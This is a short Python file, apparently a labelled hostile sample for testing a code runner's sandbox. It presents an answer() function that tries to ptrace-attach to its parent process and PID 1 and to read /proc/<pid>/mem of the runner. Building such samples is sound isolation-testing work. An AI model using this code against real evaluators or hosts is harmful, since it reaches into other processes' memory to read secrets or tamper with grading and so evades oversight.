# Tries: reads the runner's memory.
# Attacks: processes
# Ends: finished
import ctypes
import os


def answer(n, user):
    libc = ctypes.CDLL(None)
    traced = [libc.ptrace(16, os.getppid(), 0, 0), libc.ptrace(16, 1, 0, 0)]
    for pid in (os.getppid(), os.getpid(), 1):
        try:
            traced.append(open(f'/proc/{pid}/mem', 'rb').read(1))
        except OSError:
            pass
    return traced
